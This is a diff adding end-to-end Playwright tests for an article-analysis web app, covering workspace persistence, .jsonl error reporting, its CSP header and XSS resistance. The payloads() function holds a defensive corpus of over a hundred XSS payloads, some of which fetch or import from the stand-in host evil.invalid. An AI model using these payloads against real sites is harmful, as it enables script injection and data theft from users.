@@ -1,0 +1,194 @@
+// End-to-end tests of what must never be lost or run: the workspace across reloads (a large
+// set, the last typing before the pause, the view), bad .jsonl lines reported by number, the
+// CSP sent as a header, and a corpus of XSS payloads pasted, dropped as file names and .jsonl
+// ids: none may run (no dialog, no script, no request) and each is shown as text.
+import { test, before, after } from "node:test";
+import assert from "node:assert/strict";
+import { spawn } from "node:child_process";
+import { createRequire } from "node:module";
+import { fileURLToPath } from "node:url";
+import path from "node:path";
+import net from "node:net";
+
+const root = path.resolve(path.dirname(fileURLToPath(import.meta.url)), "../..");
+const require = createRequire(path.join(root, ".ci/package.json"));
+const { chromium } = require("playwright-core");
+
+let server, browser, base;
+
+before(async () => {
+  const port = await new Promise((resolve) => {
+    const s = net.createServer().listen(0, "127.0.0.1", () => { const { port } = s.address(); s.close(() => resolve(port)); });
+  });
+  base = `http://127.0.0.1:${port}/`;
+  server = spawn("python3", [path.join(root, ".ci/static_server.py"), path.join(root, "www"), String(port)], { stdio: "ignore" });
+  for (let i = 0; i < 50; i++) {
+    try { await fetch(base); break; } catch { await new Promise((r) => setTimeout(r, 100)); }
+  }
+  browser = await chromium.launch({
+    executablePath: process.env.CHROMIUM || "/usr/bin/chromium",
+    args: ["--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run", "--disable-background-networking",
+      "--disable-component-update", "--disable-sync"],
+  });
+});
+
+after(async () => {
+  await browser?.close();
+  server?.kill();
+});
+
+async function open(context) {
+  const page = await context.newPage();
+  const problems = [];
+  page.on("console", (m) => { if (m.type() === "error") problems.push(`console: ${m.text()}`); });
+  page.on("pageerror", (e) => problems.push(`page error: ${e.message}`));
+  page.on("dialog", (d) => { problems.push(`dialog: ${d.message()}`); d.dismiss(); });
+  page.on("request", (r) => { if (!r.url().startsWith(base) && !r.url().startsWith("data:")) problems.push(`foreign request: ${r.url()}`); });
+  await page.goto(base);
+  await page.waitForFunction(() => document.body.dataset.analysed >= "1", null, { timeout: 20_000 });
+  return { page, problems };
+}
+
+async function type(page, text) {
+  await page.evaluate((t) => {
+    const area = document.getElementById("text");
+    area.value = t;
+    area.dispatchEvent(new Event("input", { bubbles: true }));
+  }, text);
+}
+
+async function analysed(page, text) {
+  const n = Number(await page.evaluate(() => document.body.dataset.analysed || 0));
+  await type(page, text);
+  await page.waitForFunction((k) => Number(document.body.dataset.analysed) > k, n, { timeout: 60_000 });
+}
+
+test("the workspace survives reloads: a large set, the last typing, the view", async () => {
+  const context = await browser.newContext();
+  const { page, problems } = await open(context);
+  // Two articles of 1.5 million characters each: more than the old 2 M localStorage limit,
+  // which deleted the saved set.
+  const big = "Le conseil municipal a voté le budget de la commune pour l'an prochain. ".repeat(21_000);
+  await analysed(page, big);
+  await page.locator("#add-doc").click();
+  await analysed(page, `${big}Fin du second article.`);
+  await page.locator("#mode-entities").click();
+  // Typed, then reloaded at once (inside the pause before the analysis): kept on pagehide.
+  await page.locator("#doc-tabs [role=tab]").nth(0).click();
+  await type(page, "Un texte tapé juste avant de recharger la page.");
+  await page.reload();
+  await page.waitForFunction(() => document.body.dataset.analysed >= "1");
+  assert.equal(await page.locator("#doc-tabs [role=tab]").count(), 2);
+  assert.equal(await page.locator("#text").inputValue(), "Un texte tapé juste avant de recharger la page.");
+  assert.equal(await page.locator("#mode-entities").getAttribute("aria-pressed"), "true");
+  // The second article, too long for the text box, is back whole: its word count says so.
+  const n = Number(await page.evaluate(() => document.body.dataset.analysed));
+  await page.locator("#doc-tabs [role=tab]").nth(1).click();
+  await page.waitForFunction((k) => Number(document.body.dataset.analysed) > k, n, { timeout: 60_000 });
+  assert.match(await page.locator("#text").getAttribute("placeholder"), /1\.5 million characters/);
+  assert.equal(await page.locator('[data-stat="words"] dd').textContent(), new Intl.NumberFormat("en-US").format(13 * 21_000 + 4));
+  assert.equal(await page.locator("#save-note").textContent(), "");
+  assert.deepEqual(problems, []);
+  await context.close();
+});
+
+test("bad .jsonl lines are reported by number, the good ones kept", async () => {
+  const context = await browser.newContext();
+  const { page, problems } = await open(context);
+  const lines = [
+    "\uFEFF" + JSON.stringify({ id: "a", text: "Premier article valable." }),
+    "pas du json",
+    JSON.stringify({ id: { nested: true }, text: "Un id qui est un objet." }),
+    JSON.stringify({ id: "c" }),
+    "",
+    JSON.stringify({ id: 7, text: "Un id numérique." }),
+  ].join("\n");
+  const before = Number(await page.evaluate(() => document.body.dataset.compared || 0));
+  await page.setInputFiles("#file", [{ name: "set.jsonl", mimeType: "application/jsonl", buffer: Buffer.from(lines) }]);
+  await page.waitForFunction((n) => Number(document.body.dataset.compared || 0) > n, before, { timeout: 60_000 });
+  const status = await page.locator("#status").textContent();
+  assert.match(status, /3 articles added/);
+  assert.match(status, /2 lines skipped: set\.jsonl line 2: not JSON; set\.jsonl line 4: no "text" string/);
+  assert.match(await page.locator("#doc-tabs").textContent(), /\{"nested":true\}/);
+  assert.deepEqual(problems, []);
+  await context.close();
+});
+
+test("the page sends its CSP as a header, frame-ancestors included", async () => {
+  const page = await fetch(base);
+  const csp = page.headers.get("content-security-policy");
+  assert.match(csp, /frame-ancestors 'none'/);
+  assert.match(csp, /default-src 'self'/);
+  const worker = await fetch(`${base}js/worker.js`);
+  assert.match(worker.headers.get("content-security-policy"), /script-src 'self' 'wasm-unsafe-eval'/);
+});
+
+/** XSS payloads written for this test: each, if it ran, would open a dialog, set a flag, change
+ * the title or fetch an address outside the page. */
+function payloads() {
+  const run = ["alert(1)", "window.__xss=1", "document.title='pwned'", "fetch('http://evil.invalid/x')"];
+  const out = [];
+  for (const js of run) {
+    out.push(
+      `<script>${js}</script>`,
+      `<img src=x onerror="${js}">`,
+      `<svg onload="${js}"></svg>`,
+      `<svg><script>${js}</script></svg>`,
+      `<math><mtext><img src=x onerror="${js}"></mtext></math>`,
+      `<body onload="${js}">`,
+      `<iframe src="javascript:${js}"></iframe>`,
+      `<a href="javascript:${js}">lien</a>`,
+      `<div style="background:url(javascript:${js})">x</div>`,
+      `<input autofocus onfocus="${js}">`,
+      `<details open ontoggle="${js}">`,
+      `<video><source onerror="${js}"></video>`,
+      `<object data="javascript:${js}"></object>`,
+      `<embed src="javascript:${js}">`,
+      `<form action="javascript:${js}"><button>go</button></form>`,
+      `<meta http-equiv="refresh" content="0;url=javascript:${js}">`,
+      `<link rel=stylesheet href="http://evil.invalid/${encodeURIComponent(js)}.css">`,
+      `<style>@import 'http://evil.invalid/a.css';</style>`,
+      `&lt;script&gt;${js}&lt;/script&gt;`,
+      `<scr<script>ipt>${js}</scr</script>ipt>`,
+      `"><script>${js}</script>`,
+      `'><img src=x onerror=${js}>`,
+      `« <script>${js}</script> », a déclaré Jean <b onmouseover="${js}">Dupont</b>.`,
+      `"<img src=x onerror=${js}>," said Mary <i>Smith</i>.`,
+      `<template><script>${js}</script></template>`,
+      `<noscript><p title="</noscript><img src=x onerror=${js}>">`,
+    );
+  }
+  return out;
+}
+
+test("a hundred XSS payloads pasted, as file names and as .jsonl ids run nothing and show as text", async () => {
+  const list = payloads();
+  assert.ok(list.length >= 100, `${list.length} payloads`);
+  const context = await browser.newContext();
+  const { page, problems } = await open(context);
+  const text = list.join("\n");
+  await analysed(page, text);
+  const entitiesBefore = Number(await page.evaluate(() => document.body.dataset.entities || 0));
+  await page.waitForFunction((n) => Number(document.body.dataset.entities || 0) >= n, entitiesBefore);
+  for (const mode of ["#mode-readability", "#mode-entities"]) {
+    await page.locator(mode).click();
+    assert.equal(await page.locator("#reader script, #reader img, #reader svg, #reader iframe, #reader a[href], #reader object, #reader embed, #reader style, #reader input").count(), 0);
+    assert.ok((await page.locator("#reader").textContent()).includes("<script>alert(1)</script>"));
+  }
+  assert.ok((await page.locator("#quotes").textContent()).includes("<script>"));
+  // As file names and .jsonl ids.
+  const files = list.slice(0, 20).map((p, i) => ({ name: `${p.replace(/\//g, "∕")}.txt`, mimeType: "text/plain", buffer: Buffer.from(`Texte ${i}.`) }));
+  const jsonl = list.map((p, i) => JSON.stringify({ id: p, text: `Article ${i} : ${p}` })).join("\n");
+  files.push({ name: "ids.jsonl", mimeType: "application/jsonl", buffer: Buffer.from(jsonl) });
+  const before = Number(await page.evaluate(() => document.body.dataset.compared || 0));
+  await page.setInputFiles("#file", files);
+  await page.waitForFunction((n) => Number(document.body.dataset.compared || 0) > n, before, { timeout: 60_000 });
+  await page.waitForTimeout(300);
+  assert.equal(await page.locator("body script:not([src]), #doc-tabs img, #doc-tabs svg, #passages img").count(), 0);
+  const flags = await page.evaluate(() => ({ xss: window.__xss, title: document.title }));
+  assert.equal(flags.xss, undefined);
+  assert.equal(flags.title, "Article Analyser");
+  assert.deepEqual(problems, []);
+  console.log(`XSS corpus: ${list.length} payloads pasted, ${files.length - 1} file names, ${list.length} .jsonl ids; none ran`);
+  await context.close();
+});
